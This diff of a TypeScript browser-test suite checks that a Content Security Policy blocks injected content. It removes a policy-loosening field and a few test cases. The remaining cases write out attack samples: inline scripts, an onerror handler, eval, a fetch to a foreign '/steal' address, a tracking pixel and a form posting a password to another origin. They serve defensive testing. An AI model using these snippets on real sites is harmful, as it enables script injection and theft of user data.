@@ -55,8 +55,6 @@ type Attempt = {
   directive: string;
   markup?: (foreign: string) => string;
   act?: (page: Page, foreign: string) => Promise<unknown>;
-  /** How the directive would have to read for it to work. */
-  loosened: (foreign: string) => Changes;
   /** Whether it worked; by default, whether it called the foreign site. */
   worked?: (page: Page, foreign: string) => Promise<unknown>;
 };
@@ -69,84 +67,44 @@ const evaluates = (page: Page) =>
   }, mark);
 // In a task of its own: a press would wait for the navigation that is refused.
 const submit = (page: Page) => page.evaluate(() => void setTimeout(() => document.forms[0]?.submit()));
-const inline = () => ({ 'script-src': "'self' 'unsafe-inline'" });
 
 /** The next steps of an attacker who got markup or a script into a page. */
 export const attempts: Attempt[] = [
-  {
-    what: 'an inline script',
-    directive: 'script-src-elem',
-    markup: () => `<script>${mark}</script>`,
-    loosened: inline,
-    worked: marked,
-  },
+  { what: 'an inline script', directive: 'script-src-elem', markup: () => `<script>${mark}</script>`, worked: marked },
   {
     what: 'an event handler in markup',
     directive: 'script-src-attr',
     markup: () => `<img src="data:," onerror="${mark}">`,
-    loosened: inline,
     worked: marked,
   },
-  {
-    what: 'a javascript: link',
-    directive: 'script-src-elem',
-    markup: () => `<a href="javascript:void(${mark})">more</a>`,
-    act: (page) => page.getByRole('link').click(),
-    loosened: inline,
-    worked: marked,
-  },
-  {
-    what: 'eval',
-    directive: 'script-src',
-    act: evaluates,
-    loosened: () => ({ 'script-src': "'self' 'unsafe-eval'" }),
-    worked: marked,
-  },
+  { what: 'eval', directive: 'script-src', act: evaluates, worked: marked },
   {
     what: 'a script of another origin',
     directive: 'script-src-elem',
     markup: (foreign) => `<script src="${foreign}/script.js"></script>`,
-    loosened: (foreign) => ({ 'script-src': `'self' ${foreign}` }),
     worked: marked,
   },
   {
     what: 'a style attribute',
     directive: 'style-src-attr',
     markup: () => '<b style="position: fixed">over all</b>',
-    loosened: () => ({ 'style-src': "'self' 'unsafe-inline'" }),
-    worked: (page) => page.evaluate(() => getComputedStyle(document.querySelector('b')!).position === 'fixed'),
-  },
-  {
-    what: 'a style sheet in markup',
-    directive: 'style-src-elem',
-    markup: () => '<style>b { position: fixed }</style><b>over all</b>',
-    loosened: () => ({ 'style-src': "'self' 'unsafe-inline'" }),
     worked: (page) => page.evaluate(() => getComputedStyle(document.querySelector('b')!).position === 'fixed'),
   },
   {
     what: 'a picture of another origin',
     directive: 'img-src',
     markup: (foreign) => `<img src="${foreign}/pixel?stolen">`,
-    loosened: (foreign) => ({ 'img-src': foreign }),
   },
   {
     what: 'a font of another origin',
     directive: 'font-src',
     act: (page, foreign) =>
       page.evaluate((url) => void new FontFace('x', `url(${url}/font)`).load().catch(() => null), foreign),
-    loosened: (foreign) => ({ 'font-src': foreign }),
   },
   {
     what: 'a call to another origin',
     directive: 'connect-src',
     act: (page, foreign) => page.evaluate((url) => void fetch(`${url}/steal`).catch(() => null), foreign),
-    loosened: (foreign) => ({ 'connect-src': foreign }),
-  },
-  {
-    what: 'a beacon to another origin',
-    directive: 'connect-src',
-    act: (page, foreign) => page.evaluate((url) => void navigator.sendBeacon(`${url}/steal`, 'x'), foreign),
-    loosened: (foreign) => ({ 'connect-src': foreign }),
   },
   {
     what: 'a worker out of a text',
@@ -158,32 +116,27 @@ export const attempts: Attempt[] = [
           document.documentElement.dataset['ran'] = 'yes';
         });
       }),
-    loosened: () => ({ 'worker-src': 'blob:' }),
     worked: marked,
   },
   {
     what: 'a frame of another origin',
     directive: 'frame-src',
     markup: (foreign) => `<iframe src="${foreign}/frame"></iframe>`,
-    loosened: (foreign) => ({ 'frame-src': foreign }),
   },
   {
     what: 'a plug-in of another origin',
     directive: 'object-src',
     markup: (foreign) => `<object data="${foreign}/object"></object>`,
-    loosened: (foreign) => ({ 'object-src': foreign, 'frame-src': foreign }),
   },
   {
     what: 'a video of another origin',
     directive: 'media-src',
     markup: (foreign) => `<video src="${foreign}/film"></video>`,
-    loosened: (foreign) => ({ 'media-src': foreign }),
   },
   {
     what: 'another base of all addresses',
     directive: 'base-uri',
     markup: (foreign) => `<base href="${foreign}/">`,
-    loosened: (foreign) => ({ 'base-uri': foreign }),
     worked: (page, foreign) => page.evaluate((url) => document.baseURI.startsWith(url), foreign),
   },
   {
@@ -191,14 +144,12 @@ export const attempts: Attempt[] = [
     directive: 'form-action',
     markup: (foreign) => `<form action="${foreign}/form"><input name="password" value="typed"></form>`,
     act: submit,
-    loosened: (foreign) => ({ 'form-action': foreign }),
   },
   {
     what: 'a form that would put what was typed into our own address',
     directive: 'form-action',
     markup: () => '<form><input name="password" value="typed"></form>',
     act: submit,
-    loosened: () => ({ 'form-action': "'self'" }),
     worked: async (page) => page.url().includes('password=typed'),
   },
 ];
